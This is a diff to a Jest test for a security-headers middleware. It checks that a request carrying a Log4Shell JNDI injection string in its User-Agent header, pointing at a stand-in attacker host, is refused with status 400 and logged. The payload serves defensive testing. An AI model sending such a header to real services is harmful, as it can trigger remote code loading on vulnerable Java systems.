@@ -85,11 +85,13 @@ describe('withSecurityHeaders', () => {
   });
 
   test('validate answers a suspicious request with 400 before the handler runs', async () => {
+    const warned = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
     const inner = jest.fn(async () => ({ statusCode: 200 }));
     const handler = withSecurityHeaders(inner, { validate: true });
     const attack = { ...v1, headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } };
     expect(await handler(attack as never, context as never)).toMatchObject({ statusCode: 400, headers: { 'X-Frame-Options': 'DENY' } });
     expect(inner).not.toHaveBeenCalled();
+    expect(warned).toHaveBeenCalledWith('{"message":"Request refused","violations":[{"header":"user-agent","rule":"log4shell"}]}');
     expect(await handler({ ...v1, headers: { 'User-Agent': 'curl/8.5.0' } } as never, context as never)).toMatchObject({ statusCode: 200 });
   });
 
